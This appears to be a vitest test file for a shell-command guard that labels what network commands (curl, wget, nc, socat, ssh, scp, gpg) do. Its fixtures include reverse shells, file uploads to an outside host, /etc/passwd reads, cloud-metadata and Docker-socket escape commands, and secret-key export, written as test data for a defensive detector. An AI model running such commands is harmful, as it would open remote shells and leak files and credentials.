import { expect, it } from "vitest";
import { effectLines } from "@/server/testing/guard/effect-lines";
import { examples, examplesByName } from "@/server/testing/guard/examples";

const table = examplesByName({
  "connect outside example.com": examples`
    curl -s https://example.com/api ¦ curl -d 'q=<b>' -G https://example.com ¦ curl -X GET https://example.com
    curl -I --url https://example.com ¦ curl --cookie a=b https://example.com ¦ wget -q --spider https://example.com
    http GET example.com ¦ ping -c 3 example.com ¦ nslookup example.com ¦ nc -zv example.com 80 ¦ telnet example.com 25
    ssh -p 2222 me@example.com ¦ ping -A example.com ¦ nc -d example.com 80 ¦ curl --head https://example.com
    curl --netrc https://example.com
  `,
  "connect outside localhost:3000": examples`curl -m 10 --retry 3 localhost:3000`,
  "write inside page.html; connect outside example.com": examples`curl -o page.html https://example.com`,
  "connect outside example.com; write inside .": examples`
    curl -O https://example.com/a.tgz ¦ wget https://example.com/a.tgz ¦ wget --method=GET https://example.com
    http --download example.com ¦ http -d GET example.com
  `,
  "send outside example.com": examples`
    curl -X POST -H 'Content-Type: application/json' -d '{"a":1}' https://example.com ¦ curl -d 'path=/etc/passwd' https://example.com
    curl --data-raw @x https://example.com ¦ curl -X DELETE https://example.com ¦ http POST example.com a=b
    http example.com a==b X:y user=a@b.com ¦ http --raw x example.com
  `,
  "read outside ../x; send outside example.com; !shell.upload": examples`curl -d @../x https://example.com`,
  "read inside x.txt; send outside example.com; !shell.upload": examples`
    curl --data-urlencode name@x.txt https://example.com ¦ curl -F 'file=@x.txt;type=text/plain' https://example.com
    curl -T x.txt https://example.com
  `,
  "read inside headers; connect outside example.com": examples`curl -H @headers https://example.com`,
  "write not_known; connect outside example.com": examples`curl -w '%output{/x}' https://example.com`,
  "read inside jar; connect outside example.com": examples`curl -b jar https://example.com`,
  "connect outside 169.254.169.254; connect outside example.com": examples`curl --resolve example.com:443:169.254.169.254 https://example.com`,
  "connect outside 10.0.0.1:80; connect outside example.com": examples`curl --connect-to ::10.0.0.1:80 https://example.com`,
  "connect outside localhost; connect outside example.com": examples`curl --connect-to x:1 https://example.com`,
  "write outside /var/run/docker.sock; elevate outside; connect outside x; !shell.container_escape": examples`
    curl --unix-socket /var/run/docker.sock http://x/containers/json
  `,
  "write inside a.sock; connect outside x": examples`curl --unix-socket ./a.sock http://x/`,
  "connect outside 169.254.169.254; connect outside x": examples`curl 'http://{169.254.169.254,x}/[1-3]'`,
  "connect outside ::1": examples`curl -g 'http://[::1]/'`,
  "read inside config; execute not_known; connect not_known; write not_known; !shell.runs_command": examples`curl -K config`,
  "connect outside proxy:8080; connect outside example.com": examples`curl -x http://proxy:8080 https://example.com`,
  "execute not_known; connect outside example.com; !shell.loads_code": examples`curl --engine x https://example.com`,
  "read outside /etc/passwd": examples`curl file:///etc/passwd`,
  "execute not_known; connect not_known; !shell.not_followed": examples`curl $url`,
  "": examples`
    curl --version ¦ http ¦ openssl version ¦ openssl rand -hex 32 ¦ openssl passwd -salt /x y ¦ jwt decode x ¦ openssl ¦ http POST
    wget --version ¦ nc -U
  `,
  "write inside x; connect outside example.com": examples`wget -O x https://example.com/a.tgz ¦ http -d -o x example.com`,
  "read inside list; connect not_known": examples`wget -i list`,
  "read inside x; send outside example.com; write inside .; !shell.upload": examples`wget --post-file=x https://example.com`,
  "send outside example.com; write inside .": examples`wget --method=PUT https://example.com`,
  "execute not_known; connect outside example.com; write inside .; !shell.runs_command": examples`wget -e use_proxy=yes https://example.com`,
  "write inside out; write inside .; connect outside example.com": examples`aria2c -d out https://example.com/a`,
  "send outside example.com; read inside x.txt; !shell.upload": examples`http example.com a=b file@x.txt`,
  "connect outside 8.8.8.8; connect outside example.com": examples`dig @8.8.8.8 example.com MX +short`,
  "connect outside 1.1.1.1": examples`dig -x 1.1.1.1`,
  "write inside out.txt; connect outside example.com": examples`nmap -p 22 -oN out.txt example.com`,
  "execute not_known; connect outside example.com; !shell.runs_command": examples`nmap --script x example.com ¦ ssh -o ProxyCommand=x example.com`,
  "connect outside localhost": examples`nc -l -p 3000`,
  "execute not_known; connect outside example.com; !shell.reverse_shell": examples`nc -e /bin/sh example.com 1234`,
  "write outside /var/run/docker.sock": examples`nc -U /var/run/docker.sock`,
  "connect outside example.com:80": examples`socat TCP:example.com:80 -`,
  "execute not_known; connect outside example.com:80; !shell.reverse_shell": examples`socat EXEC:/bin/sh TCP:example.com:80`,
  "connect outside localhost; write outside /etc/passwd": examples`socat TCP-LISTEN:80,fork FILE:/etc/passwd`,
  "write inside a.sock": examples`socat ./a.sock -`,
  "connect not_known": examples`socat odd -`,
  "execute outside; connect outside example.com; !shell.remote_command": examples`ssh example.com ls -o x /etc`,
  "connect outside 10.0.0.1; read inside key; connect outside example.com": examples`ssh -o StrictHostKeyChecking=no -o HostName=10.0.0.1 -o IdentityFile=key example.com`,
  "read inside key; connect outside a; connect outside b; connect outside c": examples`ssh -J a,b -i key c`,
  "read inside cfg; execute not_known; connect outside c; !shell.runs_command": examples`ssh -F cfg c`,
  "execute outside; connect outside c; !shell.remote_command": examples`ssh -L 80:a:80 c`,
  "connect outside host; write inside .": examples`scp host:/path .`,
  "read inside a.txt; send outside host; !shell.upload": examples`scp a.txt host:/path`,
  "read inside a recursive; write inside b recursive": examples`scp -r a b`,
  "read inside a.txt": examples`scp a.txt`,
  "connect outside host": examples`sftp host ¦ mosh host`,
  "read inside x; execute not_known; connect outside host; !shell.runs_command": examples`sftp -b x host`,
  "execute outside; connect outside host; !shell.remote_command": examples`ssh-copy-id host`,
  "write inside key; write inside .ssh": examples`ssh-keygen -t ed25519 -f key -N ''`,
  "connect outside github.com": examples`ssh-keyscan github.com`,
  "read inside key": examples`ssh-add key`,
  "write inside key.pem; write inside cert.pem": examples`openssl req -x509 -newkey rsa:2048 -keyout key.pem -out cert.pem -days 365 -nodes -subj /CN=localhost`,
  "read inside cert.pem": examples`openssl x509 -in cert.pem -noout -text`,
  "connect outside example.com:443": examples`openssl s_client -connect example.com:443`,
  "read inside a; write inside b; read outside ../x": examples`openssl enc -aes-256-cbc -pass file:../x -in a -out b`,
  "read outside ../x": examples`openssl dgst -sha256 ../x`,
  "execute not_known; !shell.loads_code": examples`openssl req -engine x ¦ openssl engine x`,
  "connect outside example.com; execute not_known": examples`ftp example.com`,
  "execute not_known; !shell.runs_command": examples`lftp -c 'open x'`,
  "read inside x.txt; send not_known; !shell.upload": examples`mail -s hi -a x.txt a@b.com ¦ mutt -a x.txt -- a@b.com`,
  "send not_known": examples`sendmail a@b.com ¦ ngrok http 3000`,
  "write inside .; connect outside example.com": examples`yt-dlp -o '%(title)s' https://example.com/v`,
  "execute not_known; write inside .; connect outside example.com; !shell.runs_command": examples`yt-dlp --exec id https://example.com/v`,
  "read inside x.gpg": examples`gpg -d x.gpg`,
  "read inside .gnupg": examples`gpg --export-secret-keys`,
  "connect outside keys.openpgp.org": examples`gpg --recv-keys ABC`,
  "send outside keys.openpgp.org irreversible": examples`gpg --send-keys ABC`,
  "delete inside .gnupg irreversible": examples`gpg --delete-keys ABC`,
  "write inside .gnupg; read inside k.asc": examples`gpg --import k.asc`,
  "read not_known; send outside example.com; !shell.upload": examples`curl -d "$body" https://example.com`,
  "execute not_known": examples`socat "$x" -`,
  "connect outside [::1]:80": examples`socat PTY,link=x TCP4:[::1]:80`,
  "execute not_known; read inside a; send outside host; !shell.runs_command; !shell.upload": examples`scp -o ProxyCommand=x a host:b`,
  "send outside example.com; read inside a.json; !shell.upload": examples`http example.com x:=@a.json`,
  "write inside x; connect outside h": examples`telnet -n x h`,
  "write inside .": examples`curl -J -O`,
  "connect outside b:2; send outside example.com; !shell.upload": examples`curl --connect-to a:1:b:2 --upload-file - https://example.com`,
  "execute not_known; connect outside h; !shell.runs_command": examples`ssh -o '' h`,
  "read inside a": examples`openssl enc -pass pass:x -in a`,
  "read inside KEY": examples`gpg --batch --export KEY`,
});

it.each(table)("what programs that reach other machines do: %s, by `%s`", (effects, command) => expect(effectLines(command)).toBe(effects));
